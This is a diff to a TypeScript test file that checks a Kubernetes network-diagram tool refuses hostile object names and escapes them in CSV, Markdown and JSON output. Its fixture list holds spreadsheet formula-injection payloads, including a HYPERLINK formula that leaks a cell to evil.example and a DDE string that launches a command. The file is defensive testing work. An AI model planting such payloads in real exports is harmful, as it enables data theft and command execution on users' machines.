@@ -1,11 +1,15 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { main } from '@netdiagram/cli';
+import { buildTrafficGraph, parseManifests } from '@netdiagram/core';
 import { describe, expect, it } from 'vitest';
+import { renderConnections } from '../../packages/cli/src/commands/connections.js';
+import { placeholder, withHostileText } from '../support/hostile.js';
 import { fakeIo, tempDir } from './support.js';
 
-// Object names are not validated by netdiagram (the API server would refuse most of these), so they
-// reach every output format verbatim: each format must carry them without being subverted.
+// Object names like these are refused on input, as the API server refuses them (k8s/invalid-name).
+// Every output format must still carry such text without being subverted: the pods below are named
+// with placeholders, and the hostile names swapped into the parsed model before formatting.
 const hostileNames = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
   '+cmd|\' /C calc\'!A0',
@@ -22,20 +26,16 @@ const hostileNames = [
 ];
 
 /** One pod per hostile name, named so and in a namespace so named; with no policies every pod reaches every other. */
-function hostileCluster(): string {
-  const dir = tempDir();
-  const docs = hostileNames.map((name) => JSON.stringify({
-    apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: name }, spec: { containers: [{ name: 'c' }] },
-  }));
-  writeFileSync(join(dir, 'pods.yaml'), docs.join('\n---\n'));
-  return dir;
+function hostilePods(names: (i: number) => string): string {
+  return hostileNames.map((_, i) => JSON.stringify({
+    apiVersion: 'v1', kind: 'Pod', metadata: { name: names(i), namespace: names(i) }, spec: { containers: [{ name: 'c' }] },
+  })).join('\n---\n');
 }
 
-async function connections(format: string): Promise<string> {
-  const dir = hostileCluster();
-  const io = fakeIo(dir);
-  expect(await main(['connections', 'pods.yaml', '--format', format], io)).toBe(0);
-  return io.out;
+async function connections(format: 'csv' | 'md' | 'json'): Promise<string> {
+  const parsed = parseManifests([{ name: 'pods.yaml', text: hostilePods(placeholder) }]);
+  expect(parsed.diagnostics).toEqual([]);
+  return renderConnections(buildTrafficGraph(withHostileText(parsed.cluster, hostileNames)), format);
 }
 
 /** RFC 4180: rows of cells; quoted cells may hold commas, quotes ("") and line breaks. */
@@ -59,6 +59,17 @@ function parseCsv(text: string): string[][] {
 }
 
 describe('output built from hostile object names', () => {
+  it('refuses the names on input, each at its position, and prints them escaped', async () => {
+    const dir = tempDir();
+    writeFileSync(join(dir, 'pods.yaml'), hostilePods((i) => hostileNames[i]!));
+    const io = fakeIo(dir);
+    expect(await main(['connections', 'pods.yaml'], io)).toBe(2);
+    const lines = io.err.split('\n').filter((l) => / error /.test(l));
+    expect(lines.filter((l) => l.includes('error k8s/invalid-name: Pod name'))).toHaveLength(hostileNames.length);
+    expect(io.err).not.toContain('line\nbreak');
+    expect(io.out).toBe('');
+  });
+
   it('CSV: every row keeps four cells, and no cell starts like a spreadsheet formula', async () => {
     const rows = parseCsv(await connections('csv'));
     expect(rows[0]).toEqual(['from', 'to', 'ports', 'via']);
